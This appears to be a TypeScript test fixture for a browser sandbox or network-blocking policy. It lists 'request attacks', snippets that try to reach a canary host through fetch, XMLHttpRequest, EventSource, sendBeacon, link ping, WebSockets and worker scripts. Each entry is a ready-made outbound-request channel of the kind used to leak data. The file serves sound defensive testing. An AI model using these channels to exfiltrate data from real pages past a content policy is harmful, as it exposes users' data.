import { createMarkupAttack, createScriptAttack, type NetworkAttack } from './attack.ts';

export const requestAttacks: NetworkAttack[] = [
  createScriptAttack('fetch', (url) => `fetch('${url}', { mode: 'no-cors' })`),
  createScriptAttack(
    'fetch over https',
    (url) => `fetch('${url.replace('http:', 'https:')}', { mode: 'no-cors' })`,
  ),
  createScriptAttack(
    'fetch with keepalive',
    (url) => `fetch('${url}', { mode: 'no-cors', keepalive: true })`,
  ),
  createScriptAttack('fetch that redirects', () => `fetch('/bounce', { mode: 'no-cors' })`),
  createScriptAttack(
    'XMLHttpRequest',
    (url) => `const r = new XMLHttpRequest(); r.open('POST', '${url}'); r.send('x')`,
  ),
  createScriptAttack('EventSource', (url) => `new EventSource('${url}')`),
  createScriptAttack('sendBeacon', (url) => `navigator.sendBeacon('${url}', 'x')`),
  createMarkupAttack(
    'link ping',
    (url) => `<a href="#x" ping="${url}">x</a><script>document.links[0].click()</script>`,
  ),
  createScriptAttack('WebSocket', (url) => `new WebSocket('${url.replace('http:', 'ws:')}')`),
  createScriptAttack('secure WebSocket', (url) => `new WebSocket('${url.replace('http:', 'wss:')}')`),
  createScriptAttack('worker importing a script', () => `new Worker('/worker.js')`, {
    files: ({ canary }) => ({
      '/worker.js': { type: 'text/javascript', body: `importScripts('http://${canary}/')` },
    }),
  }),
  createScriptAttack('shared worker fetching', () => `new SharedWorker('/shared.js')`, {
    files: ({ canary }) => ({
      '/shared.js': { type: 'text/javascript', body: `fetch('http://${canary}/', { mode: 'no-cors' })` },
    }),
  }),
  createScriptAttack(
    'service worker fetching',
    () => `navigator.serviceWorker.register('/service.js', { scope: '/nowhere/' })`,
    {
      files: ({ canary }) => ({
        '/service.js': {
          type: 'text/javascript',
          body: `addEventListener('install', (e) => e.waitUntil(fetch('http://${canary}/', { mode: 'no-cors' })))`,
        },
      }),
    },
  ),
];
